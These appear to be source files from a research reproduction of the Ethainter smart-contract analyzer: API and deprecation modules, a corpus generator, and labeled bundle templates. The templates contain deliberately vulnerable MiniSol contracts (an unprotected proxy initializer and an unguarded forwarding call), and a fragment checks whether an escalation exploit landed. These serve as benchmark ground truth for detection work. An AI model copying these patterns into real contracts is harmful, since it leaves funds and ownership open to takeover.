            self.chain.state.get_storage(victim, victim_slot) == self.attacker
        )
        return BundleKillOutcome(
            attack="cross-contract-escalation",
            success=landed,
            target=victim,
            transactions=1,
            detail=(
                "victim 0x%x slot %d now holds the attacker"
                % (victim, victim_slot)
                if landed
                else "victim 0x%x slot %d unchanged" % (victim, victim_slot)
            ),
            trace=[
                "tx1 %s(attacker=0x%x): success=%s"
                % (entry_signature, self.attacker, receipt.success)
            ],
        )
