"""Deprecation plumbing for the legacy deep-import entry points.

``repro.api`` is the single supported entry surface; the historical deep
imports (``repro.core.analysis.analyze_bytecode``,
``repro.core.batch.analyze_many``, ...) keep working as thin shims that
emit a :class:`DeprecationWarning` *once per process per entry point* —
loud enough to steer callers, quiet enough that a million-contract sweep
does not drown in warnings.
"""

from __future__ import annotations

import warnings
from typing import Set

_WARNED: Set[str] = set()


def warn_deprecated_entry(old: str, new: str) -> None:
    """Warn (once per process) that ``old`` should be replaced by ``new``."""
    if old in _WARNED:
        return
    _WARNED.add(old)
    warnings.warn(
        "%s is deprecated; use %s instead (see repro.api)" % (old, new),
        DeprecationWarning,
        stacklevel=3,
    )


def reset_deprecation_registry() -> None:
    """Forget which entry points already warned (test isolation hook)."""
    _WARNED.clear()
