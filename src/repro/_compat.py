"""Deprecation plumbing for the legacy deep-import entry points.

``repro.api`` is the single supported entry surface; the historical deep
imports (``repro.core.analysis.analyze_bytecode``,
``repro.core.batch.analyze_many``, ...) keep working as thin shims that
emit a :class:`DeprecationWarning` *once per process per entry point* —
loud enough to steer callers, quiet enough that a million-contract sweep
does not drown in warnings.
"""

from __future__ import annotations

import warnings
from typing import Dict, Set

# The finalized removal list: every deprecated deep-import entry point,
# mapped to its exact ``repro.api`` replacement symbol.  This is the
# single source of truth — shim call sites must name a key from this
# registry (enforced by :func:`warn_deprecated_entry` and the test
# suite), and the README's deprecation table mirrors it.  Shims are
# scheduled for removal in the release after the serving daemon
# stabilizes; new code must import from :mod:`repro.api` only.
DEPRECATED_ENTRY_POINTS: Dict[str, str] = {
    "repro.core.analysis.analyze_bytecode": "repro.api.analyze",
    "repro.core.batch.analyze_many": "repro.api.sweep",
    "repro.core.batch.analyze_battery": "repro.api.battery",
}

_WARNED: Set[str] = set()


def warn_deprecated_entry(old: str, new: str) -> None:
    """Warn (once per process) that ``old`` should be replaced by ``new``.

    ``old`` must be registered in :data:`DEPRECATED_ENTRY_POINTS` with
    exactly ``new`` as its replacement — an unregistered shim is a
    programming error, caught here rather than drifting silently.
    """
    if DEPRECATED_ENTRY_POINTS.get(old) != new:
        raise AssertionError(
            "shim %r -> %r is not registered in DEPRECATED_ENTRY_POINTS"
            % (old, new)
        )
    if old in _WARNED:
        return
    _WARNED.add(old)
    warnings.warn(
        "%s is deprecated; use %s instead (see repro.api)" % (old, new),
        DeprecationWarning,
        stacklevel=3,
    )


def reset_deprecation_registry() -> None:
    """Forget which entry points already warned (test isolation hook)."""
    _WARNED.clear()
