"""The supported public surface of the Ethainter reproduction.

Everything downstream tooling needs lives here; deeper imports
(``repro.core.analysis.analyze_bytecode``, ``repro.core.batch.
analyze_many``) still work but are deprecated shims.  Three call shapes:

* :func:`analyze` — one contract, one configuration;
* :func:`sweep` — a corpus under one configuration, optionally parallel on
  the supervised orchestrator (watchdog, crash isolation, retries,
  checkpoint journal — see :mod:`repro.core.orchestrator`);
* :func:`battery` — a corpus under several configurations at once (the
  Fig. 8 ablation shape), sharing per-worker artifact caches.

Quickstart::

    from repro import api

    result = api.analyze(runtime_bytecode)
    for warning in result.warnings:
        print(warning.kind, warning.detail)

    summary = api.sweep(bytecodes, jobs=8, journal="sweep.jsonl")
    # interrupted?  re-run with resume=True: completed contracts are
    # skipped, the final report is identical.
    summary = api.sweep(bytecodes, jobs=8, journal="sweep.jsonl", resume=True)
"""

from __future__ import annotations

import dataclasses
from typing import Callable, Dict, List, Optional, Sequence, Tuple, Union

from repro.core.analysis import (
    AnalysisConfig,
    AnalysisResult,
    EthainterAnalysis,
    Warning,
)
from repro.core.batch import BatchEntry, BatchSummary
from repro.core.bytecode_datalog import WarmEngineCache
from repro.core.orchestrator import (
    FaultPlan,
    OrchestratorOptions,
    OrchestratorStats,
    ResultCache,
    run_sweep,
)
from repro.core.linkage import (
    BundleContract,
    BundleResult,
    CallEdge,
    ContractBundle,
    CrossContractFinding,
    bundle_contract,
    bundle_from_specs,
    load_bundle_file,
)
from repro.core.linkage import analyze_bundle as _analyze_bundle
from repro.core.pipeline import ArtifactCache
from repro.core.report import BundleReport, ContractReport, SweepReport
from repro.core.vulnerabilities import (
    CROSS_CONTRACT_KINDS,
    VULNERABILITY_KINDS,
    Finding,
    UnknownKindError,
    validate_kinds,
)

__all__ = [
    "analyze",
    "analyze_bundle",
    "sweep",
    "battery",
    "AnalyzeRequest",
    "AnalysisConfig",
    "AnalysisResult",
    "ArtifactCache",
    "BatchEntry",
    "BatchSummary",
    "BundleContract",
    "BundleReport",
    "BundleResult",
    "CallEdge",
    "ContractBundle",
    "ContractReport",
    "CrossContractFinding",
    "CROSS_CONTRACT_KINDS",
    "EthainterAnalysis",
    "FaultPlan",
    "Finding",
    "OrchestratorOptions",
    "OrchestratorStats",
    "ResultCache",
    "SweepReport",
    "UnknownKindError",
    "VULNERABILITY_KINDS",
    "WarmEngineCache",
    "Warning",
    "bundle_contract",
    "bundle_from_specs",
    "load_bundle_file",
    "validate_kinds",
]


@dataclasses.dataclass(frozen=True)
class AnalyzeRequest:
    """One analysis request as a single frozen value: the contract input
    plus every configuration knob.

    This is the *one* config surface shared by :func:`analyze`,
    :func:`sweep`, :func:`battery`, the ``repro`` CLI, and the HTTP
    request codec behind ``repro serve`` — all of them fold their inputs
    into an ``AnalyzeRequest`` and derive the effective
    :class:`AnalysisConfig` (and the content identity caches key on)
    through the same two methods, so a report produced by any entry point
    is reproducible through every other one.

    The contract input is either ``bytecode`` (runtime bytes) *or*
    ``source`` (MiniSol text, optionally disambiguated by ``contract``)
    — never both.  Both may be omitted when the request is used purely
    as a configuration carrier (e.g. a sweep applies one request's
    configuration to many bytecodes).

    Construction never validates (the dataclass is a plain value and
    stays cheap to build/compare/hash); validation happens when a
    derived view is asked for:

    * :meth:`config` — the effective :class:`AnalysisConfig`; raises
      :class:`~repro.core.pipeline.UnknownEngineError` /
      :class:`UnknownKindError` on bad ``engine`` / ``kinds``;
    * :meth:`runtime` — the runtime bytecode, compiling ``source`` on
      demand; raises :class:`ValueError` when the input is missing,
      ambiguous, or doubled;
    * :meth:`fingerprint` — the configuration fingerprint (the config
      half of every cache/journal identity);
    * :meth:`identity` — ``sha256(bytecode) + fingerprint``, the exact
      key the sweep journal, :class:`ResultCache`, and the serving
      daemon's dedup use.

    Being frozen, variants derive with :func:`dataclasses.replace`::

        base = AnalyzeRequest(engine="datalog")
        fast = dataclasses.replace(base, deadline=5.0)
    """

    bytecode: Optional[bytes] = None
    source: Optional[str] = None
    contract: Optional[str] = None  # contract name within ``source``
    # Multi-contract input (repro.core.linkage.ContractBundle); mutually
    # exclusive with bytecode/source.  analyze() on a bundle request
    # returns a BundleResult instead of an AnalysisResult.
    bundle: Optional[ContractBundle] = None
    name: str = ""  # display name for reports
    engine: str = "python"
    kinds: Optional[Tuple[str, ...]] = None
    value_analysis: bool = False
    deadline: Optional[float] = 120.0
    # Figure 8 ablation switches, spelled exactly as AnalysisConfig does.
    model_guards: bool = True
    model_storage_taint: bool = True
    conservative_storage: bool = False

    def config(self) -> AnalysisConfig:
        """The effective :class:`AnalysisConfig`, engine/kinds validated."""
        from repro.core.pipeline import ENGINE_CHOICES, UnknownEngineError

        if self.engine not in ENGINE_CHOICES:
            raise UnknownEngineError(self.engine)
        return AnalysisConfig(
            model_guards=self.model_guards,
            model_storage_taint=self.model_storage_taint,
            conservative_storage=self.conservative_storage,
            value_analysis=self.value_analysis,
            timeout_seconds=self.deadline,
            engine=self.engine,
            kinds=validate_kinds(self.kinds),
        )

    def runtime(self) -> bytes:
        """The runtime bytecode, compiling MiniSol ``source`` if given."""
        if self.bundle is not None:
            if self.bytecode is not None or self.source is not None:
                raise ValueError(
                    "AnalyzeRequest takes a bundle or bytecode/source, "
                    "not both"
                )
            raise ValueError(
                "a bundle request has no single runtime; use analyze() "
                "(which dispatches to analyze_bundle) or the bundle itself"
            )
        if self.bytecode is not None and self.source is not None:
            raise ValueError(
                "AnalyzeRequest takes bytecode or source, not both"
            )
        if self.bytecode is not None:
            return self.bytecode
        if self.source is None:
            raise ValueError(
                "AnalyzeRequest has no contract input (bytecode or source)"
            )
        from repro.minisol import compile_source

        compiled = compile_source(self.source, self.contract)
        if isinstance(compiled, dict):
            raise ValueError(
                "multiple contracts in source; pick one with contract=: %s"
                % ", ".join(sorted(compiled))
            )
        return compiled.runtime

    def fingerprint(self) -> str:
        """The configuration fingerprint (config half of the identity)."""
        from repro.core.pipeline import analysis_fingerprint

        return analysis_fingerprint(self.config())

    def identity(self) -> str:
        """``sha256(bytecode) + config fingerprint`` — the journal /
        result-cache / serving-dedup key for this exact request.  Bundle
        requests key on the bundle digest instead of a single bytecode."""
        if self.bundle is not None:
            if self.bytecode is not None or self.source is not None:
                raise ValueError(
                    "AnalyzeRequest takes a bundle or bytecode/source, "
                    "not both"
                )
            return "bundle:%s:%s" % (self.bundle.digest(), self.fingerprint())
        from repro.core.orchestrator import journal_key

        return journal_key(self.runtime(), self.fingerprint())


def _coerce_config(
    config: "Union[AnalysisConfig, AnalyzeRequest, None]",
) -> Optional[AnalysisConfig]:
    """Every sweep/battery entry point takes an :class:`AnalysisConfig`
    or an :class:`AnalyzeRequest` used as a configuration carrier."""
    if isinstance(config, AnalyzeRequest):
        return config.config()
    return config


def analyze(
    bytecode: "Union[bytes, AnalyzeRequest]",
    config: Optional[AnalysisConfig] = None,
    *,
    cache: Optional[ArtifactCache] = None,
    warm=None,
) -> AnalysisResult:
    """Analyze one contract's runtime bytecode.

    The first argument is runtime bytecode, or a full
    :class:`AnalyzeRequest` (whose input and configuration are both
    honored; passing ``config`` alongside a request is an error).

    ``warm`` optionally takes a
    :class:`~repro.core.bytecode_datalog.WarmEngineCache`: repeated calls
    on the same contract with a datalog engine then repair one live
    fixpoint incrementally (DRed) instead of recomputing it — e.g. an
    ablation battery flipping ``model_guards`` re-derives only the facts
    the flipped guards touch.
    """
    if isinstance(bytecode, AnalyzeRequest):
        if config is not None:
            raise ValueError(
                "pass configuration inside the AnalyzeRequest, "
                "not as a separate config"
            )
        request = bytecode
        if request.bundle is not None:
            if request.bytecode is not None or request.source is not None:
                raise ValueError(
                    "AnalyzeRequest takes a bundle or bytecode/source, "
                    "not both"
                )
            return _analyze_bundle(
                request.bundle, request.config(), cache=cache, warm=warm
            )
        bytecode = request.runtime()
        config = request.config()
    return EthainterAnalysis(config, cache=cache, warm=warm).analyze(bytecode)


def analyze_bundle(
    bundle: "Union[ContractBundle, AnalyzeRequest]",
    config: "Union[AnalysisConfig, AnalyzeRequest, None]" = None,
    *,
    cache: Optional[ArtifactCache] = None,
    warm=None,
) -> BundleResult:
    """Analyze a multi-contract :class:`ContractBundle` as one deployment.

    Each contract runs the standard per-contract pipeline; multi-contract
    bundles additionally resolve the inter-contract call graph and run the
    merged namespaced EDB through one Datalog fixpoint with the
    cross-contract strata (``proxy-upgrade-hijack``,
    ``cross-contract-escalation``) — see :mod:`repro.core.linkage`.  A
    one-contract bundle stops after the per-contract pass, so its report
    is byte-identical to :func:`analyze` on that contract.
    """
    if isinstance(bundle, AnalyzeRequest):
        if config is not None:
            raise ValueError(
                "pass configuration inside the AnalyzeRequest, "
                "not as a separate config"
            )
        if bundle.bundle is None:
            raise ValueError("AnalyzeRequest has no bundle")
        config = bundle.config()
        bundle = bundle.bundle
    return _analyze_bundle(
        bundle, _coerce_config(config), cache=cache, warm=warm
    )


def _options(
    executor: Optional[str],
    mp_context: Optional[str],
    max_retries: Optional[int],
    journal: Optional[str],
    resume: bool,
    dedup: Optional[bool],
    result_cache: Optional[str],
    on_event: Optional[Callable[[Dict], None]],
    options: Optional[OrchestratorOptions],
) -> OrchestratorOptions:
    """Fold the convenience keywords into a (copied) options object; a
    keyword left at its default never overrides an explicit ``options``."""
    options = OrchestratorOptions() if options is None else dataclasses.replace(options)
    if executor is not None:
        options.executor = executor
    if mp_context is not None:
        options.mp_context = mp_context
    if max_retries is not None:
        options.max_retries = max_retries
    if journal is not None:
        options.journal_path = journal
    options.resume = resume or options.resume
    if dedup is not None:
        options.dedup = dedup
    if result_cache is not None:
        options.result_cache_path = result_cache
    if on_event is not None:
        options.on_event = on_event
    return options


def sweep(
    bytecodes: Sequence[bytes],
    config: "Union[AnalysisConfig, AnalyzeRequest, None]" = None,
    *,
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
    executor: Optional[str] = None,
    mp_context: Optional[str] = None,
    max_retries: Optional[int] = None,
    journal: Optional[str] = None,
    resume: bool = False,
    dedup: Optional[bool] = None,
    result_cache: Optional[str] = None,
    on_event: Optional[Callable[[Dict], None]] = None,
    options: Optional[OrchestratorOptions] = None,
) -> BatchSummary:
    """Analyze ``bytecodes`` under one configuration.

    ``jobs > 1`` fans out over the supervised orchestrator (``executor=
    "pool"`` selects the legacy process pool instead).  ``journal`` names a
    JSONL checkpoint file; with ``resume=True`` contracts already recorded
    there (same bytecode digest and config fingerprint) are skipped and
    their journaled entries reused verbatim.  Entries come back ordered by
    input index regardless of completion order; a shared ``cache`` is
    honored in-process, while workers build per-process caches (caches do
    not cross process boundaries).

    Duplicate submissions (same bytecode digest + config fingerprint) are
    coalesced by default: one representative is analyzed per unique
    identity and its entry fanned out to the duplicates (per-submission
    ``index`` preserved; counters in ``summary.orchestrator`` under
    ``tasks_total`` / ``tasks_unique`` / ``dedup_hits``).  ``dedup=False``
    analyzes every submission naively.  ``result_cache`` names a directory
    for a disk-backed cross-run :class:`ResultCache`: identities completed
    by any earlier sweep are resolved without analysis
    (``result_cache_hits``).
    """
    config = _coerce_config(config) or AnalysisConfig()
    resolved = _options(
        executor, mp_context, max_retries, journal, resume, dedup,
        result_cache, on_event, options,
    )
    return run_sweep(bytecodes, (config,), jobs=jobs, cache=cache, options=resolved)[0]


def battery(
    bytecodes: Sequence[bytes],
    configs: "Sequence[Union[AnalysisConfig, AnalyzeRequest]]",
    *,
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
    executor: Optional[str] = None,
    mp_context: Optional[str] = None,
    max_retries: Optional[int] = None,
    journal: Optional[str] = None,
    resume: bool = False,
    dedup: Optional[bool] = None,
    result_cache: Optional[str] = None,
    on_event: Optional[Callable[[Dict], None]] = None,
    options: Optional[OrchestratorOptions] = None,
) -> List[BatchSummary]:
    """Analyze ``bytecodes`` under every configuration in ``configs``.

    Returns one :class:`BatchSummary` per configuration, index-aligned
    with ``configs``.  All configurations of one contract run in the same
    worker against a shared :class:`ArtifactCache`, so stages whose
    configuration fingerprints agree (the lift/facts/storage/guards prefix
    for the Fig. 8 ablations) are computed once per contract.  Duplicate
    submissions coalesce exactly as in :func:`sweep` (the identity spans
    every battery configuration's fingerprint).
    """
    if not configs:
        raise ValueError("battery needs at least one configuration")
    configs = [_coerce_config(config) for config in configs]
    resolved = _options(
        executor, mp_context, max_retries, journal, resume, dedup,
        result_cache, on_event, options,
    )
    return run_sweep(bytecodes, configs, jobs=jobs, cache=cache, options=resolved)
