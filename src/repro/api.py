"""The supported public surface of the Ethainter reproduction.

Everything downstream tooling needs lives here; deeper imports
(``repro.core.analysis.analyze_bytecode``, ``repro.core.batch.
analyze_many``) still work but are deprecated shims.  Three call shapes:

* :func:`analyze` — one contract, one configuration;
* :func:`sweep` — a corpus under one configuration, optionally parallel on
  the supervised orchestrator (watchdog, crash isolation, retries,
  checkpoint journal — see :mod:`repro.core.orchestrator`);
* :func:`battery` — a corpus under several configurations at once (the
  Fig. 8 ablation shape), sharing per-worker artifact caches.

Quickstart::

    from repro import api

    result = api.analyze(runtime_bytecode)
    for warning in result.warnings:
        print(warning.kind, warning.detail)

    summary = api.sweep(bytecodes, jobs=8, journal="sweep.jsonl")
    # interrupted?  re-run with resume=True: completed contracts are
    # skipped, the final report is identical.
    summary = api.sweep(bytecodes, jobs=8, journal="sweep.jsonl", resume=True)
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional, Sequence

from repro.core.analysis import (
    AnalysisConfig,
    AnalysisResult,
    EthainterAnalysis,
    Warning,
)
from repro.core.batch import BatchEntry, BatchSummary
from repro.core.bytecode_datalog import WarmEngineCache
from repro.core.orchestrator import (
    FaultPlan,
    OrchestratorOptions,
    OrchestratorStats,
    ResultCache,
    run_sweep,
)
from repro.core.pipeline import ArtifactCache
from repro.core.report import ContractReport, SweepReport
from repro.core.vulnerabilities import (
    VULNERABILITY_KINDS,
    Finding,
    UnknownKindError,
    validate_kinds,
)

__all__ = [
    "analyze",
    "sweep",
    "battery",
    "AnalysisConfig",
    "AnalysisResult",
    "ArtifactCache",
    "BatchEntry",
    "BatchSummary",
    "ContractReport",
    "EthainterAnalysis",
    "FaultPlan",
    "Finding",
    "OrchestratorOptions",
    "OrchestratorStats",
    "ResultCache",
    "SweepReport",
    "UnknownKindError",
    "VULNERABILITY_KINDS",
    "WarmEngineCache",
    "Warning",
    "validate_kinds",
]


def analyze(
    bytecode: bytes,
    config: Optional[AnalysisConfig] = None,
    *,
    cache: Optional[ArtifactCache] = None,
    warm=None,
) -> AnalysisResult:
    """Analyze one contract's runtime bytecode.

    ``warm`` optionally takes a
    :class:`~repro.core.bytecode_datalog.WarmEngineCache`: repeated calls
    on the same contract with a datalog engine then repair one live
    fixpoint incrementally (DRed) instead of recomputing it — e.g. an
    ablation battery flipping ``model_guards`` re-derives only the facts
    the flipped guards touch.
    """
    return EthainterAnalysis(config, cache=cache, warm=warm).analyze(bytecode)


def _options(
    executor: Optional[str],
    mp_context: Optional[str],
    max_retries: Optional[int],
    journal: Optional[str],
    resume: bool,
    dedup: Optional[bool],
    result_cache: Optional[str],
    on_event: Optional[Callable[[Dict], None]],
    options: Optional[OrchestratorOptions],
) -> OrchestratorOptions:
    """Fold the convenience keywords into a (copied) options object; a
    keyword left at its default never overrides an explicit ``options``."""
    import dataclasses

    options = OrchestratorOptions() if options is None else dataclasses.replace(options)
    if executor is not None:
        options.executor = executor
    if mp_context is not None:
        options.mp_context = mp_context
    if max_retries is not None:
        options.max_retries = max_retries
    if journal is not None:
        options.journal_path = journal
    options.resume = resume or options.resume
    if dedup is not None:
        options.dedup = dedup
    if result_cache is not None:
        options.result_cache_path = result_cache
    if on_event is not None:
        options.on_event = on_event
    return options


def sweep(
    bytecodes: Sequence[bytes],
    config: Optional[AnalysisConfig] = None,
    *,
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
    executor: Optional[str] = None,
    mp_context: Optional[str] = None,
    max_retries: Optional[int] = None,
    journal: Optional[str] = None,
    resume: bool = False,
    dedup: Optional[bool] = None,
    result_cache: Optional[str] = None,
    on_event: Optional[Callable[[Dict], None]] = None,
    options: Optional[OrchestratorOptions] = None,
) -> BatchSummary:
    """Analyze ``bytecodes`` under one configuration.

    ``jobs > 1`` fans out over the supervised orchestrator (``executor=
    "pool"`` selects the legacy process pool instead).  ``journal`` names a
    JSONL checkpoint file; with ``resume=True`` contracts already recorded
    there (same bytecode digest and config fingerprint) are skipped and
    their journaled entries reused verbatim.  Entries come back ordered by
    input index regardless of completion order; a shared ``cache`` is
    honored in-process, while workers build per-process caches (caches do
    not cross process boundaries).

    Duplicate submissions (same bytecode digest + config fingerprint) are
    coalesced by default: one representative is analyzed per unique
    identity and its entry fanned out to the duplicates (per-submission
    ``index`` preserved; counters in ``summary.orchestrator`` under
    ``tasks_total`` / ``tasks_unique`` / ``dedup_hits``).  ``dedup=False``
    analyzes every submission naively.  ``result_cache`` names a directory
    for a disk-backed cross-run :class:`ResultCache`: identities completed
    by any earlier sweep are resolved without analysis
    (``result_cache_hits``).
    """
    config = config or AnalysisConfig()
    resolved = _options(
        executor, mp_context, max_retries, journal, resume, dedup,
        result_cache, on_event, options,
    )
    return run_sweep(bytecodes, (config,), jobs=jobs, cache=cache, options=resolved)[0]


def battery(
    bytecodes: Sequence[bytes],
    configs: Sequence[AnalysisConfig],
    *,
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
    executor: Optional[str] = None,
    mp_context: Optional[str] = None,
    max_retries: Optional[int] = None,
    journal: Optional[str] = None,
    resume: bool = False,
    dedup: Optional[bool] = None,
    result_cache: Optional[str] = None,
    on_event: Optional[Callable[[Dict], None]] = None,
    options: Optional[OrchestratorOptions] = None,
) -> List[BatchSummary]:
    """Analyze ``bytecodes`` under every configuration in ``configs``.

    Returns one :class:`BatchSummary` per configuration, index-aligned
    with ``configs``.  All configurations of one contract run in the same
    worker against a shared :class:`ArtifactCache`, so stages whose
    configuration fingerprints agree (the lift/facts/storage/guards prefix
    for the Fig. 8 ablations) are computed once per contract.  Duplicate
    submissions coalesce exactly as in :func:`sweep` (the identity spans
    every battery configuration's fingerprint).
    """
    if not configs:
        raise ValueError("battery needs at least one configuration")
    resolved = _options(
        executor, mp_context, max_retries, journal, resume, dedup,
        result_cache, on_event, options,
    )
    return run_sweep(bytecodes, configs, jobs=jobs, cache=cache, options=resolved)
