"""Labeled multi-contract bundle templates for the cross-contract corpus.

Single-contract templates (:mod:`repro.corpus.templates`) exercise the
per-contract detectors; these bundle templates exercise the composite
chains that only exist *between* contracts (:mod:`repro.core.linkage`):

* **proxy pair** — a delegatecall proxy dispatching through a constant
  implementation slot, paired with the implementation it points at.  The
  vulnerable variant's implementation exposes an unguarded initializer
  that (running in the proxy's storage context) rewrites the dispatch
  slot; the benign variant guards the initializer behind an admin check
  that can never pass in the proxy's context.  Ground truth:
  ``proxy-upgrade-hijack`` on the vulnerable pair only, and — the
  precision half — *neither contract flagged when analyzed alone*.

* **escalation pair** — contract A forwards an attacker-chosen argument
  through a resolved CALL into contract B, whose privileged store is
  guarded by ``msg.sender == <address of A>``.  The vulnerable variant
  leaves A's forwarding entry point unguarded (the trust edge is
  attacker-drivable); the benign variant owner-guards it.  Ground truth:
  ``cross-contract-escalation`` on the vulnerable pair only.

Bundles are kept out of the single-contract ``TEMPLATES`` registry (and
therefore out of every sweep's default weights) exactly as
``REENTRANCY_TEMPLATES`` are: they are a separate corpus dimension with
their own consumer (`benchmarks/test_cross_contract_precision.py`, the
kill replay, and ``repro analyze --bundle`` examples).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, Set, Tuple

from repro.core.linkage import BundleContract, ContractBundle, bundle_contract

# Deterministic, human-legible deployment addresses.
PROXY_ADDRESS = 0x1000
LOGIC_ADDRESS = 0x2000
VAULT_ADDRESS = 0x3000
TREASURY_ADDRESS = 0x4000
DEPLOYER = 0xD00D

PROXY_SOURCE = """contract Proxy {
    address implementation;
    address owner;

    constructor(address impl) {
        implementation = impl;
        owner = msg.sender;
    }

    function execute(address arg) public {
        delegatecall(implementation, "init(address)", arg);
    }

    function upgrade(address impl) public {
        require(msg.sender == owner);
        implementation = impl;
    }
}
"""

# Vulnerable implementation: `init` is a classic unprotected initializer.
# Run via the proxy's delegatecall it writes *the proxy's* slot 0 — the
# dispatch slot — handing the attacker the next delegatecall target.
LOGIC_SOURCE = """contract Logic {
    address implementation;

    function init(address impl) public {
        implementation = impl;
    }
}
"""

# Benign implementation: the initializer demands msg.sender == admin, and
# in the proxy's storage context slot 1 holds the deployer, never the
# attacker — the write is unreachable, the pair is clean.
SAFE_LOGIC_SOURCE = """contract SafeLogic {
    address implementation;
    address admin;

    function init(address impl) public {
        require(msg.sender == admin);
        implementation = impl;
    }
}
"""

# Vulnerable forwarder: anyone can make the Vault speak to the Treasury,
# and the Treasury believes everything the Vault says.
VAULT_SOURCE = """contract Vault {
    address treasury;

    function route(address who) public {
        call(treasury, "setBeneficiary(address)", who);
    }
}
"""

SAFE_VAULT_SOURCE = """contract SafeVault {
    address treasury;
    address owner;

    function route(address who) public {
        require(msg.sender == owner);
        call(treasury, "setBeneficiary(address)", who);
    }
}
"""

TREASURY_SOURCE = """contract Treasury {
    address vault;
    address beneficiary;

    function setBeneficiary(address who) public {
        require(msg.sender == vault);
        beneficiary = who;
    }
}
"""

# The Treasury slot the escalation overwrites (checked by the kill replay).
TREASURY_BENEFICIARY_SLOT = 1


@dataclass
class BundleTemplateOutput:
    """One generated bundle plus its ground truth."""

    template: str
    bundle: ContractBundle
    labels: Set[str] = field(default_factory=set)  # expected cross verdicts
    # The entry point an exploit drives, as (address, function signature).
    entry: Tuple[int, str] = (0, "")


def proxy_pair() -> BundleTemplateOutput:
    """The vulnerable proxy/implementation pair (§3.2 composite)."""
    return BundleTemplateOutput(
        template="proxy_pair",
        bundle=ContractBundle(
            contracts=(
                bundle_contract(
                    PROXY_ADDRESS,
                    source=PROXY_SOURCE,
                    name="Proxy",
                    storage={0: LOGIC_ADDRESS, 1: DEPLOYER},
                ),
                bundle_contract(
                    LOGIC_ADDRESS, source=LOGIC_SOURCE, name="Logic"
                ),
            )
        ),
        labels={"proxy-upgrade-hijack"},
        entry=(PROXY_ADDRESS, "execute(address)"),
    )


def benign_proxy_pair() -> BundleTemplateOutput:
    """The owner-guarded control: same shape, no verdict expected."""
    return BundleTemplateOutput(
        template="benign_proxy_pair",
        bundle=ContractBundle(
            contracts=(
                bundle_contract(
                    PROXY_ADDRESS,
                    source=PROXY_SOURCE,
                    name="Proxy",
                    storage={0: LOGIC_ADDRESS, 1: DEPLOYER},
                ),
                bundle_contract(
                    LOGIC_ADDRESS,
                    source=SAFE_LOGIC_SOURCE,
                    name="SafeLogic",
                    storage={1: DEPLOYER},
                ),
            )
        ),
        labels=set(),
        entry=(PROXY_ADDRESS, "execute(address)"),
    )


def escalation_pair() -> BundleTemplateOutput:
    """The vulnerable trusted-caller escalation pair."""
    return BundleTemplateOutput(
        template="escalation_pair",
        bundle=ContractBundle(
            contracts=(
                bundle_contract(
                    VAULT_ADDRESS,
                    source=VAULT_SOURCE,
                    name="Vault",
                    storage={0: TREASURY_ADDRESS},
                ),
                bundle_contract(
                    TREASURY_ADDRESS,
                    source=TREASURY_SOURCE,
                    name="Treasury",
                    storage={0: VAULT_ADDRESS},
                ),
            )
        ),
        labels={"cross-contract-escalation"},
        entry=(VAULT_ADDRESS, "route(address)"),
    )


def benign_escalation_pair() -> BundleTemplateOutput:
    """Owner-guarded forwarder: the trust edge exists but is not
    attacker-drivable; no verdict expected."""
    return BundleTemplateOutput(
        template="benign_escalation_pair",
        bundle=ContractBundle(
            contracts=(
                bundle_contract(
                    VAULT_ADDRESS,
                    source=SAFE_VAULT_SOURCE,
                    name="SafeVault",
                    storage={0: TREASURY_ADDRESS, 1: DEPLOYER},
                ),
                bundle_contract(
                    TREASURY_ADDRESS,
                    source=TREASURY_SOURCE,
                    name="Treasury",
                    storage={0: VAULT_ADDRESS},
                ),
            )
        ),
        labels=set(),
        entry=(VAULT_ADDRESS, "route(address)"),
    )


BUNDLE_TEMPLATES: Dict[str, Callable[[], BundleTemplateOutput]] = {
    "proxy_pair": proxy_pair,
    "benign_proxy_pair": benign_proxy_pair,
    "escalation_pair": escalation_pair,
    "benign_escalation_pair": benign_escalation_pair,
}


__all__ = [
    "BUNDLE_TEMPLATES",
    "BundleContract",
    "BundleTemplateOutput",
    "ContractBundle",
    "DEPLOYER",
    "LOGIC_ADDRESS",
    "PROXY_ADDRESS",
    "TREASURY_ADDRESS",
    "TREASURY_BENEFICIARY_SLOT",
    "VAULT_ADDRESS",
    "benign_escalation_pair",
    "benign_proxy_pair",
    "escalation_pair",
    "proxy_pair",
]
