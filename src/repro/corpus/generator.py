"""Seeded corpus generation.

``generate_corpus(size, seed)`` draws contracts from the template pool with
weights chosen so the corpus-level statistics resemble the paper's universe:
the vast majority of contracts are benign (the paper flags 0.04%–1.33% per
vulnerability over 240K mainnet contracts; a pure-benign majority at our
scale keeps flag rates in the low percent range), with a long tail of
vulnerable and adversarial templates.

Every contract is compiled on generation; a template whose instance fails to
compile is a generator bug and raises immediately.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set

from repro.corpus.templates import (
    REENTRANCY_TEMPLATES,
    TEMPLATES,
    TemplateOutput,
)
from repro.minisol import CompiledContract, compile_source

# Weights tuned so per-vulnerability flag rates land in the paper's
# low-single-digit-percent regime (§6.2 table).
DEFAULT_WEIGHTS: Dict[str, float] = {
    "safe_owned": 34.0,
    "safe_token": 25.0,
    "safe_wallet": 18.0,
    "guarded_delegatecall": 6.0,
    "checked_staticcall": 2.0,
    "open_selfdestruct": 1.2,
    "tainted_selfdestruct_direct": 0.25,
    "tainted_owner_simple": 1.5,
    "tainted_selfdestruct_storage": 0.3,
    "composite_victim": 0.9,
    "composite_registry": 0.7,
    "tainted_delegatecall": 0.35,
    "delegatecall_via_storage": 0.25,
    "unchecked_staticcall": 0.2,
    "fp_one_shot_init": 0.7,
    "fp_game_winner": 0.9,
    "kill_magic_value": 0.45,
    "dead_state_selfdestruct": 0.6,
    "nested_role_registry": 0.4,
    "large_dao": 3.0,
    "array_write_unchecked": 0.35,
    "array_write_checked": 0.3,
    "computed_flag_write": 0.2,
}


@dataclass
class CorpusContract:
    """A generated contract: source, bytecode, and ground truth."""

    index: int
    template: str
    name: str
    source: str
    compiled: CompiledContract
    labels: Set[str] = field(default_factory=set)
    exploitable_selfdestruct: bool = False
    expected_fp_kinds: Set[str] = field(default_factory=set)
    solidity_version: str = "0.4.24"
    inline_assembly: bool = False
    has_source: bool = True
    eth_held: int = 0

    @property
    def runtime(self) -> bytes:
        return self.compiled.runtime

    @property
    def is_vulnerable(self) -> bool:
        return bool(self.labels)

    @property
